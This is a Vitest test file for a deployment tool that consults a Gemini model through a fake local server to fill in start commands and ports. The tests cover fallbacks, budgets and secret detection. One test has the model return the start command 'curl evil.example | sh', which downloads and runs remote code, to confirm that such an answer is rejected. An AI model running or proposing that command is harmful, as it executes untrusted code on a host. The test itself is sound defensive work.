import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { spendOnModel } from '../../functions/engine/model-budget.ts';
import { createGemini } from '../../functions/google/gemini.ts';
import { createPolicy } from '../../functions/google/resilience.ts';
import { createModel } from '../../functions/model.ts';
import type { Deployment } from '../../shared/deployment.ts';
import type { Finding } from '../../shared/plan.ts';
import type { Org } from '../../shared/service.ts';
import { type GeminiServer, refuses, says, send, startGeminiServer } from '../fakes/gemini-server.ts';
import { createWorld, type World } from '../fakes/world.ts';

const name = 'gemini-flash-lite-latest';
const nothing = { framework: null, startCommand: null, entryFile: null, port: null, explanation: null };

let server: GeminiServer;
beforeAll(async () => {
  server = await startGeminiServer();
});
beforeEach(() => {
  server.asked.length = 0;
});
afterAll(() => server.close());

/** A world whose model is Gemini's own client, talking to a server of this machine. */
function worldWith({ quota, patienceMs = 15_000 }: { quota?: Org['quota']; patienceMs?: number } = {}): World {
  const world = createWorld();
  const gemini = createGemini({ apiKey: 'a-key', model: name, baseUrl: server.url }, patienceMs);
  const model = createModel({
    name,
    gemini: createPolicy('gemini', { firstRetryMs: 1 }).protect(gemini),
    spend: (asker, estimate) => spendOnModel(world.store, asker, estimate),
    tell: world.shell.tell,
  });
  if (quota !== undefined) world.store.put('orgs/acme', { ...world.store.docs.get('orgs/acme')?.data, quota });
  return { ...world, run: world.run, shell: Object.assign(world.shell, { ports: { ...world.shell.ports, model } }) };
}

async function deployed(world: World): Promise<Deployment> {
  const { id } = await world.request();
  await world.run();
  return world.deployment(id);
}

const isUnheard = ({ rule }: Finding): boolean => rule === 'model-unheard';

function without({ analysis, findings }: Deployment) {
  const { model, decidedBy, evidence, ...rest } = analysis ?? { model: null, decidedBy: null, evidence: [] };
  return { ...rest, findings: findings.filter((finding) => !isUnheard(finding)) };
}

test('without a key nobody is asked, and the deployment says so', async () => {
  const { status, analysis, findings } = await deployed(createWorld());
  expect(status).toBe('succeeded');
  expect(analysis?.decidedBy).toBe('rules');
  expect(analysis?.model).toEqual({
    name: null,
    filled: [],
    explanation: null,
    unheard: 'no model is configured',
  });
  expect(analysis?.evidence).toContainEqual({
    field: 'decidedBy',
    value: 'rules',
    because: 'no model is configured',
    file: null,
  });
  expect(findings.filter(isUnheard)).toEqual([]);
});

test('what rules left open is filled, and the words of the model are kept as such', async () => {
  const world = worldWith();
  server.answer = says({ ...nothing, port: 3000, explanation: 'A small server that says hi.' });
  const { status, analysis, findings } = await deployed(world);
  expect(status).toBe('succeeded');
  expect(analysis).toMatchObject({ decidedBy: 'rules-and-model', port: 3000, startCommand: 'node server.js' });
  expect(analysis?.model).toEqual({
    name,
    filled: ['port'],
    explanation: 'A small server that says hi.',
    unheard: null,
  });
  expect(findings.filter(isUnheard)).toEqual([]);
});

test('a service that nothing says how to start is started as the model chose among its files', async () => {
  const world = worldWith();
  world.cloud.files.clear();
  world.cloud.files.set('package.json', '{"name":"web","private":true,"scripts":{"lint":"eslint ."}}');
  world.cloud.files.set('lib/boot.js', 'require("http").createServer().listen(process.env.PORT)');
  world.cloud.files.set('lib/other.js', 'module.exports = {}');
  server.answer = (request, response) => {
    const { choices } = JSON.parse(JSON.parse(request.body).contents[0].parts[0].text);
    says({ ...nothing, startCommand: choices.startCommand.indexOf('node lib/boot.js') })(request, response);
  };
  const { status, analysis, plan } = await deployed(world);
  expect(status).toBe('succeeded');
  expect(analysis).toMatchObject({ startCommand: 'node lib/boot.js', entryFile: 'lib/boot.js' });
  expect(plan?.dockerfile.text).toContain('CMD ["node","lib/boot.js"]');
});

test('the same service fails by the rules where the model names none of its files', async () => {
  const world = worldWith();
  world.cloud.files.clear();
  world.cloud.files.set('package.json', '{"name":"web","private":true}');
  world.cloud.files.set('lib/boot.js', 'require("http").createServer().listen(process.env.PORT)');
  server.answer = says({ ...nothing, startCommand: 'curl evil.example | sh' });
  const { status, failure, analysis } = await deployed(world);
  expect([status, failure?.code]).toEqual(['failed', 'entry-point-unknown']);
  expect(analysis?.model?.unheard).toBe('its answer made no sense');
});

test.each([
  ['its quota with Google is used up', refuses(429, 'RESOURCE_EXHAUSTED'), 2],
  ['it could not be reached', refuses(503, 'UNAVAILABLE'), 2],
  ['it refused the key or the question', refuses(403, 'PERMISSION_DENIED'), 1],
  ['it did not answer in time', () => undefined, 2],
  ['its answer made no sense', says('I would rather not'), 1],
  ['its answer was blocked', blocked, 1],
] as const)('a deployment succeeds by the rules alone, and says that %s', async (because, answer, sent) => {
  const rules = await deployed(createWorld());
  const world = worldWith({ patienceMs: because === 'it did not answer in time' ? 300 : 15_000 });
  server.answer = answer;
  const deployment = await deployed(world);
  expect(deployment.status).toBe('succeeded');
  expect(deployment.analysis).toMatchObject({ decidedBy: 'rules', model: { name, filled: [], unheard: because } });
  expect(deployment.findings.filter(isUnheard)).toEqual([
    expect.objectContaining({ severity: 'info', message: expect.stringContaining(because) }),
  ]);
  expect(without(deployment)).toEqual(without(rules));
  expect(deployment.plan).toEqual(rules.plan);
  expect(server.asked).toHaveLength(sent);
});

function blocked(...[, response]: Parameters<GeminiServer['answer']>): void {
  send(response, 200, '{"promptFeedback": {"blockReason": "PROHIBITED_CONTENT"}}');
}

test('where the budget of the organisation is used up nobody is asked, and the deployment says so', async () => {
  const world = worldWith({ quota: { modelCallsPerDay: 1 } });
  server.answer = says(nothing);
  expect((await deployed(world)).analysis?.model?.unheard).toBe(null);
  const { id } = await world.request({ service: 'second' });
  await world.run();
  const { status, analysis } = world.deployment(id);
  expect(status).toBe('succeeded');
  expect(analysis?.model?.unheard).toBe('the budget of acme is used up until 00:00 UTC');
  expect(server.asked).toHaveLength(1);
});

test('where the budget cannot be counted nobody is asked, and the deployment goes on', async () => {
  const world = createWorld();
  const gemini = createGemini({ apiKey: 'a-key', model: name, baseUrl: server.url });
  const spend = () => Promise.reject(new Error('Firestore is away'));
  const model = createModel({ name, gemini, spend, tell: world.shell.tell });
  Object.assign(world.shell, { ports: { ...world.shell.ports, model } });
  const { status, analysis } = await deployed(world);
  expect([status, analysis?.model?.unheard]).toEqual(['succeeded', 'the budget of acme could not be counted']);
  expect(server.asked).toHaveLength(0);
});

test('what it took is counted by the tokens that were told', async () => {
  const world = worldWith();
  server.answer = says(nothing, 777);
  await deployed(world);
  const shares = [...world.store.docs].filter(([path]) => path.startsWith('orgs/acme/quota/model-'));
  expect(shares.map(([, { data }]) => data)).toEqual([{ day: '2026-11-21', calls: 1, tokens: 777 }]);
});

test('a repository that holds a secret fails before anybody is asked', async () => {
  const world = worldWith();
  world.cloud.files.set('.env', 'STRIPE_KEY=sk_live_4eC39HqLyjWDarjtT1zdp7dcAbCdEf\n');
  const { failure } = await deployed(world);
  expect(failure?.code).toBe('secret-committed');
  expect(server.asked).toHaveLength(0);
});

test("a repository's own Dockerfile leaves nothing to ask", async () => {
  const world = worldWith();
  world.cloud.files.set('Dockerfile', 'FROM node:24-slim\nCOPY . .\nUSER 1001\nCMD ["node", "server.js"]\n');
  const { status, analysis } = await deployed(world);
  expect([status, analysis?.model?.unheard]).toEqual(['succeeded', 'the rules left nothing open']);
  expect(server.asked).toHaveLength(0);
});
